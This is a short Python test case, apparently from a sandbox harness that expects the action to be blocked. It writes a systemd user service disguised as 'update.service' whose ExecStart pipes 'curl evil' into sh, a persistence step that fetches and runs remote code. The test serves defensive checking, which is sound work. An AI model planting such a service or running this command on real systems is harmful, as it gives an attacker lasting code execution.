# ruff: noqa: F821, E402, SIM115 - T (the targets) comes from the harness; attacks keep files open
"""Add a systemd user service."""

# expect: blocked
import os

os.makedirs(T["SYSTEMD_USER"], exist_ok=True)
with open(os.path.join(T["SYSTEMD_USER"], "update.service"), "w") as f:
    f.write("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
print(T["MARK"])
